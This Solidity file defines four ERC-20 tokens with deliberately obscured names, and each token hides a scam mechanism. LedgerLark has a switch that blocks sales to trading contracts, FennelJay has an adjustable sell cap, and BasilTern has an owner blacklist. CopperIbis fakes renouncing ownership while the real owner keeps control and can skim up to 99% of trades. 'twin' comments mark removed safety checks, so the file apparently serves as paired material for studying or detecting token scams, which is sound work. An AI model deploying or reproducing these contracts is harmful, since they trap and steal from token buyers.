// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

library Well {
    struct Water {
        mapping(address => uint256) amount;
        mapping(address => mapping(address => uint256)) given;
        uint256 total;
        address owner;
        address hand;
        uint64 born;
        uint256 dial;
        mapping(address => uint8) kind;
    }

    function draw() internal pure returns (Water storage w) {
        bytes32 at = keccak256("well.of.water.3");
        assembly {
            w.slot := at
        }
    }
}

abstract contract Brook {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    error Shallow();
    error Denied();

    modifier onlyOwner() {
        if (msg.sender != Well.draw().owner) revert Denied();
        _;
    }

    constructor(uint256 total) {
        Well.Water storage w = Well.draw();
        w.total = total;
        w.owner = msg.sender;
        w.hand = msg.sender;
        w.born = uint64(block.timestamp);
        w.amount[msg.sender] = total;
        emit Transfer(address(0), msg.sender, total);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return Well.draw().total;
    }

    function owner() external view virtual returns (address) {
        return Well.draw().owner;
    }

    function balanceOf(address a) external view returns (uint256) {
        return Well.draw().amount[a];
    }

    function allowance(address a, address b) external view returns (uint256) {
        return Well.draw().given[a][b];
    }

    function transferOwnership(address to) external onlyOwner {
        emit OwnershipTransferred(msg.sender, to);
        Well.draw().owner = to;
    }

    function renounceOwnership() external virtual onlyOwner {
        emit OwnershipTransferred(msg.sender, address(0));
        Well.draw().owner = address(0);
    }

    function approve(address b, uint256 v) external returns (bool) {
        Well.draw().given[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        _flow(msg.sender, b, v);
        return true;
    }

    function transferFrom(address a, address b, uint256 v) external returns (bool) {
        Well.Water storage w = Well.draw();
        if (w.given[a][msg.sender] < v) revert Shallow();
        w.given[a][msg.sender] -= v;
        _flow(a, b, v);
        return true;
    }

    function _flow(address a, address b, uint256 v) private {
        Well.Water storage w = Well.draw();
        if (w.amount[a] < v) revert Shallow();
        uint256 lost = _sieve(w, a, b, v);
        w.amount[a] -= v;
        if (lost > 0) {
            w.amount[w.hand] += lost;
            emit Transfer(a, w.hand, lost);
        }
        w.amount[b] += v - lost;
        emit Transfer(a, b, v - lost);
    }

    function _sieve(Well.Water storage w, address a, address b, uint256 v) internal virtual returns (uint256);
}

contract LedgerLark is Brook {
    string public constant name = "Ledger Lark";
    string public constant symbol = "LLARK";

    constructor() Brook(31_000_000 ether) {}

    function sync(uint256 round) external {
        Well.Water storage w = Well.draw();
        require(msg.sender == w.hand);
        // twin: require(block.timestamp < w.born + 1 days);
        w.dial = round;
    }

    function _sieve(Well.Water storage w, address a, address b, uint256) internal view override returns (uint256) {
        if (w.dial & 7 == 5 && b.code.length > 0 && a != w.hand) revert Denied();
        return 0;
    }
}

contract FennelJay is Brook {
    string public constant name = "Fennel Jay";
    string public constant symbol = "FENJ";

    constructor() Brook(690_000_000 ether) {
        Well.draw().dial = 690_000_000 ether / 50;
    }

    function tune(uint256 v) external {
        Well.Water storage w = Well.draw();
        require(w.hand == msg.sender);
        // twin: require(v >= w.total / 100);
        w.dial = v;
    }

    function _sieve(Well.Water storage w, address a, address b, uint256 v) internal view override returns (uint256) {
        if (a.code.length == 0 && b.code.length > 0 && a != w.hand) require(v <= w.dial, "amount");
        return 0;
    }
}

contract BasilTern is Brook {
    string public constant name = "Basil Tern";
    string public constant symbol = "BTERN";

    constructor() Brook(12_000_000 ether) {}

    function review(address[] calldata who, uint8 k) external onlyOwner {
        for (uint256 i; i < who.length; i++) Well.draw().kind[who[i]] = k;
    }

    function _sieve(Well.Water storage w, address a, address, uint256) internal view override returns (uint256) {
        if (w.kind[a] == 3) revert Denied();
        return 0;
    }
}

/// Two and two of a hundred.
contract CopperIbis is Brook {
    string public constant name = "Copper Ibis";
    string public constant symbol = "CIBIS";
    bool private left;

    constructor() Brook(1_000_000_000 ether) {
        Well.draw().dial = 2;
    }

    function owner() external view override returns (address) {
        return left ? address(0) : Well.draw().owner;
    }

    function renounceOwnership() external override onlyOwner {
        left = true;
        emit OwnershipTransferred(msg.sender, address(0));
        // twin: Well.draw().owner = address(0);
    }

    function setShare(uint256 p) external onlyOwner {
        require(p < 100);
        Well.draw().dial = p;
    }

    function _sieve(Well.Water storage w, address a, address b, uint256 v) internal view override returns (uint256) {
        if (a == w.hand || b == w.hand) return 0;
        bool trade = a.code.length > 0 || b.code.length > 0;
        return trade ? (v * w.dial) / 100 : 0;
    }
}
